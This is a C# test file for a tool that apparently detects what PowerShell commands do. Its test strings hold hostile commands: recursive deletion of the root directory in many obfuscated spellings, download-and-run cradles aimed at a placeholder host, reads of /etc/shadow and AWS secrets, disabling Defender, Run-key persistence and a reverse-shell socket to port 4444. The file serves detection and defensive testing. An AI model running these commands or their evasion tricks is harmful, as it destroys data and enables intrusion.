using System.Text;
using Pharos.Shell.Effects;
using Pharos.Shell.Effects.Languages.PowerShell;

namespace Pharos.Shell.Tests.Effects.Languages.PowerShell;

public sealed class PowerShellReaderTests
{
    [Fact]
    public void Every_cmdlet_is_known_by_a_row()
    {
        foreach (var name in Cmdlets.Names)
        {
            Cmdlets.Find(name).ShouldNotBeNull();
        }

        Cmdlets.Names.Count().ShouldBeGreaterThan(250);
    }

    [Theory]
    [InlineData("Write-Host 'rm -rf /'")]
    [InlineData("Get-Date -Format o; $x = 1 + 2; \"$x is $(1 + 2)\"")]
    [InlineData("Get-Process | Where-Object { $_.CPU -gt 10 } | Sort-Object CPU -Descending | Select-Object -First 5 Name, CPU")]
    [InlineData("1..5 | % { $_ * 2 } | Measure-Object -Sum")]
    [InlineData("$PSVersionTable.PSVersion.ToString()")]
    [InlineData("[math]::Round(3.7); [DateTime]::Now.AddDays(1).ToString('u')")]
    [InlineData("if ((Test-Path x.txt) -and $true) { 'yes' } else { 'no' }")]
    [InlineData("foreach ($i in 1..3) { Write-Output \"$i\" }; function f($a) { return $a + 1 }; f 2")]
    [InlineData("ConvertTo-Json @{ a = 1; b = @(1, 2) } -Depth 3 -Compress")]
    [InlineData("'a,b' -split ',' | ForEach-Object { $_.ToUpper() }")]
    [InlineData("echo 'powershell is executed'")]
    public void Code_that_only_looks_and_computes_has_no_effect(string code) => Reads.Words("pwsh", "-NoProfile", "-Command", code).Effects().ShouldBeEmpty();

    [Theory]
    [InlineData("Remove-Item -Recurse -Force /")]
    [InlineData("remove-item / -rec -fo")]
    [InlineData("ri -r -force:$true '/'")]
    [InlineData("Remove-Item -Path '/' -Recurse -ErrorAction SilentlyContinue")]
    [InlineData("Re`move-It`em -Recurse /")]
    [InlineData("& 'Remove-Item' -Recurse /")]
    [InlineData("& ('Remove' + '-Item') -Recurse /")]
    [InlineData("$c = 'Remove-Item'; & $c -Recurse /")]
    [InlineData("& ('{1}-{0}' -f 'Item', 'Remove') -Recurse '/'")]
    [InlineData("iex 'Remove-Item -Recurse /'")]
    [InlineData("'Remove-Item -Recurse /' | Invoke-Expression")]
    [InlineData("Invoke-Expression ('metI-evomeR'[-1..-11] -join '') ; Remove-Item -Recurse /")]
    [InlineData("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALwA=')))")]
    [InlineData("iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgLw==')))")]
    [InlineData("iex (('Remove-XItem -Recurse /').Replace('X', ''))")]
    [InlineData("iex (-join ([char[]](82,101,109,111,118,101,45,73,116,101,109) + ' -Recurse /'))")]
    [InlineData("& { Remove-Item -Recurse / }")]
    [InlineData("if ($true) { Get-Date; Remove-Item -Recurse / }")]
    [InlineData("Get-Date && Remove-Item -Recurse /")]
    [InlineData("1..3 | ForEach-Object { Remove-Item -Recurse / }")]
    [InlineData("Set-Alias zap Remove-Item; zap -Recurse /")]
    [InlineData("Start-Job { Remove-Item -Recurse / }")]
    [InlineData("Invoke-Command -ScriptBlock { Remove-Item -Recurse / }")]
    [InlineData("[IO.Directory]::Delete('/', $true)")]
    [InlineData("[System.IO.Directory]::Delete('/', 1)")]
    [InlineData("rm -rf /")]
    [InlineData("bash -c 'rm -rf /'")]
    [InlineData("Start-Process rm -ArgumentList '-rf /'")]
    [InlineData("saps bash -Args '-c','rm -rf /'")]
    [InlineData("\"$(Remove-Item -Recurse /)\"")]
    [InlineData("try { Remove-Item -Recurse / } catch { }")]
    [InlineData("function f { Remove-Item -Recurse / }; f")]
    [InlineData("[scriptblock]::Create('Remove-Item -Recurse /').Invoke()")]
    [InlineData("rem\"ove-ite\"m -Recurse /")]
    [InlineData("Remove-Item –Recurse /")]
    [InlineData("pwsh -c 'Remove-Item -Recurse /'")]
    public void A_destruction_is_found_in_every_spelling(string code) =>
        Sandbox.Analyze("pwsh -c " + Quote(code)).Effects.ShouldContain(static effect => effect.Kind == EffectKind.Delete && effect.Target == "/" && effect.IsRecursive);

    [Theory]
    [InlineData("-EncodedCommand")]
    [InlineData("-enc")]
    [InlineData("-e")]
    [InlineData("/EC")]
    [InlineData("–enco")]
    public void An_encoded_command_is_decoded(string option) =>
        Reads.Words("powershell.exe", "-nop", "-w", "hidden", "-ep", "bypass", option, Convert.ToBase64String(Encoding.Unicode.GetBytes("ri -r /"))).Effects().ShouldContain("Delete Certain /");

    [Theory]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://x/y')")]
    [InlineData("iwr http://x/y | iex")]
    [InlineData("iex (irm http://x/y)")]
    [InlineData("irm http://x/y -UseBasicParsing | Invoke-Expression")]
    [InlineData("$c = (iwr -useb http://x/y).Content; iex $c")]
    [InlineData("& ([scriptblock]::Create((irm http://x/y)))")]
    [InlineData("$w = New-Object System.Net.WebClient; $s = $w.DownloadString('http://x/y'); iex $s")]
    public void What_is_fetched_and_run_is_a_flow(string code) =>
        Sandbox.Analyze("pwsh -c " + Quote(code)).Flows.ShouldContain(static flow => flow.Kind == FlowKind.DownloadToInterpreter && flow.From == "http://x/y");

    [Theory]
    [InlineData("Get-Content /etc/shadow", "ExposeSecret Certain /etc/shadow")]
    [InlineData("'x' | Out-File out.txt", "Write Certain /workspace/out.txt")]
    [InlineData("'x' > out.txt", "Write Certain /workspace/out.txt")]
    [InlineData("Set-Content -Path src\\a.txt -Value 'x'", "Write Certain /workspace/src/a.txt")]
    [InlineData("kubectl completion powershell >> $PROFILE", "Write Certain /home/dev/.config/powershell/profile.ps1")]
    [InlineData("Copy-Item a b", "Write Certain /workspace/b")]
    [InlineData("Invoke-WebRequest http://x/y -OutFile z", "Download Certain http://x/y")]
    [InlineData("(New-Object Net.WebClient).DownloadFile('http://x/y', 'z')", "Write Certain /workspace/z")]
    [InlineData("New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y", "Persist Certain HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")]
    [InlineData("Set-MpPreference -DisableRealtimeMonitoring $true", "Weaken Certain pwsh set-mppreference")]
    [InlineData("Register-ScheduledTask -TaskName x -Action $a", "Persist Certain pwsh register-scheduledtask")]
    [InlineData("Set-ExecutionPolicy Bypass -Scope Process -Force", "Weaken Certain pwsh set-executionpolicy")]
    [InlineData("Stop-Process -Name sshd -Force", "ControlProcess Certain sshd")]
    [InlineData("New-LocalUser x -Password $p", "Escalate Certain pwsh new-localuser")]
    [InlineData("Add-Type -TypeDefinition $code", "Execute Unknown pwsh add-type")]
    [InlineData("$c = New-Object Net.Sockets.TCPClient('10.0.0.1', 4444); $s = $c.GetStream()", "Network Certain 10.0.0.1")]
    [InlineData("Start-Process pwsh -Verb RunAs", "Escalate Certain pwsh Start-Process")]
    [InlineData("Remove-Item -Recurse C:\\Windows", "Delete Certain C:\\Windows")]
    [InlineData(".\\build.ps1 -Configuration Release", "Execute Certain /workspace/build.ps1")]
    [InlineData("Get-ChildItem env:", "ExposeSecret Possible environment")]
    [InlineData("Frobnicate-Thing x", "Execute Unknown Frobnicate-Thing")]
    [InlineData("& $unknown x", "Execute Unknown pwsh &")]
    [InlineData("iex $unknown", "Execute Unknown pwsh Invoke-Expression")]
    [InlineData("[Zzz]::Go(1)", "Execute Unknown pwsh zzz.go()")]
    [InlineData("[Reflection.Assembly]::Load($b)", "Execute Unknown pwsh reflection.assembly.load")]
    [InlineData("Install-Module Pester -Force", "Install Certain Pester")]
    [InlineData("$env:AWS_SECRET_ACCESS_KEY", "ExposeSecret Possible AWS_SECRET_ACCESS_KEY")]
    public void What_code_does_is_named(string code, string effect) =>
        Sandbox.Analyze("pwsh -c " + Quote(code)).Effects.Select(static found => $"{found.Kind} {found.Certainty} {found.Target}").ShouldContain(effect);

    [Fact]
    public void On_windows_the_short_names_are_cmdlets() => Reads.Words("powershell", "rm -r -fo /").Effects().ShouldContain("Delete Certain /");

    [Fact]
    public void A_file_is_run() => Reads.Line("pwsh -NoLogo -File build.ps1 -x").Effects().ShouldBe(["Execute Certain /workspace/build.ps1"]);

    [Theory]
    [InlineData("pwsh -Version 7")]
    [InlineData("pwsh -h")]
    public void Asking_about_itself_has_no_effect(string line) => Reads.Line(line).Effects().ShouldBeEmpty();

    private static string Quote(string code) => "'" + code.Replace("'", "'\\''", StringComparison.Ordinal) + "'";
}
